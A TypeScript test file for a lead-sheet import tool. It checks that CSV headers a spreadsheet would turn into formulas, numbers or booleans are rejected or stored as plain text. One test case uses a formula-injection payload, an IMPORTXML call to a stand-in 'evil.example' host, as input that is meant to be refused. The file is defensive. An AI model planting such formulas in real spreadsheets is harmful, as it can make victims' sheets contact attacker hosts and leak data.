import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, it, onTestFinished } from 'vitest';
import { quietLog } from '../../../src/adapters/system/quiet-log.ts';
import { seededRandom } from '../../../src/adapters/system/random.ts';
import { openXlsxFile } from '../../../src/adapters/xlsx-file/xlsx-store.ts';
import { importRows } from '../../../src/jobs/import/import.ts';
import { tinyPerson, writeTinyWorkbook } from '../../adapters/xlsx-file/tiny-spreadsheet.ts';
import type { StoreHarness } from '../../contracts/store-contract.ts';
import { googleSheetHarness } from '../../support/google-sheet-harness.ts';
import type { GoogleSheetHarness } from '../../support/google-sheet-harness.ts';

let harness: GoogleSheetHarness | null = null;
afterEach(async () => {
  await harness?.close();
  harness = null;
});

const leads = [
  ['Company', 'Stage'],
  ['Alder', 'Proposal'],
];
const start = async () => (harness = await googleSheetHarness([{ title: 'Leads', rows: leads }]));

function importFile(
  { open }: Pick<StoreHarness, 'open'>,
  headers: readonly string[],
  maps: readonly string[] = [],
  company = 'Cairn',
) {
  const rows = [
    ['Company', 'Stage', ...headers],
    [company, 'Proposal', ...headers.map((_, index) => `value ${index + 1}`)],
  ];
  const source = {
    name: 'fair.csv',
    read: () => Promise.resolve({ rows }),
  };
  return importRows(
    { store: open(), clock: { now: () => Date.UTC(2026, 2, 3, 9) }, random: seededRandom(1), log: quietLog },
    { source, tab: 'leads', maps, dryRun: false },
  );
}

const entered = (it: GoogleSheetHarness, row: number) =>
  it.emulator.state
    .get(it.spreadsheetId)
    ?.sheets.find(({ properties }) => properties.title === 'Leads')
    ?.grid[row]?.map((cell) => cell?.userEnteredValue);

describe('headers of a file that a sheet would not keep as text', () => {
  it.each([
    ['=1+1', 'a formula'],
    ['=IMPORTXML("https://evil.example","//a")', 'a formula'],
    ['+x', 'a formula'],
    ['-x', 'a formula'],
    ['@x', 'a formula'],
    ['12', 'a number or a date'],
    ['1.5.2026', 'a number or a date'],
    ['TRUE', 'TRUE or FALSE'],
  ])('are refused before anything is written: %s', async (header, taken) => {
    const it = await start();
    await expect(importFile(it, ['Region', header])).rejects.toMatchObject({
      code: 'header-not-text',
      message: expect.stringContaining(`“${header}” would become ${taken}. Nothing was written.`) as string,
      fix: expect.stringContaining(`--map "A NAME=${header}"`) as string,
    });
    expect(await it.person.cells('Leads')).toEqual(leads);
  });

  it('are taken under another name, and where they stand as text', async () => {
    const it = await start();
    expect((await importFile(it, ['=1+1'], ['Sum==1+1'])).newColumns).toEqual(['Sum']);
    it.emulator.act(it.spreadsheetId, [
      {
        updateCells: {
          start: { sheetId: 0, rowIndex: 0, columnIndex: 3 },
          rows: [{ values: [{ userEnteredValue: { stringValue: '12' } }] }],
          fields: 'userEnteredValue',
        },
      },
    ]);
    expect((await importFile(it, ['12'], [], 'Dolmen')).newColumns).toEqual([]);
    expect(entered(it, 3)?.[3]).toEqual({ stringValue: 'value 1' });
  });

  it('stay what they are where they have signs of regular expressions', async () => {
    const it = await start();
    const headers = ['a\\b', 'Cost $1', '$0 x', '\\$', '${sum}'];
    expect((await importFile(it, headers, ['Amount=(none)'])).newColumns).toEqual(headers);
    expect(entered(it, 0)?.slice(2)).toEqual(headers.map((stringValue) => ({ stringValue })));
    expect(entered(it, 2)?.slice(2)).toEqual(headers.map((_, at) => ({ stringValue: `value ${at + 1}` })));
  });

  it('are written as the text that they are into a file', async () => {
    const folder = mkdtempSync(join(tmpdir(), 'leadsheet-headers-'));
    onTestFinished(() => rmSync(folder, { recursive: true }));
    const path = join(folder, 'pipeline.xlsx');
    writeTinyWorkbook(path, [{ title: 'Leads', rows: leads }]);
    const headers = ['=1+1', '+x', '12', 'TRUE', 'a\\b', '$1'];
    await importFile({ open: () => openXlsxFile(path, { log: quietLog }) }, headers);
    expect((await tinyPerson(path).cells('Leads'))[0]?.slice(2)).toEqual(headers);
  });
});
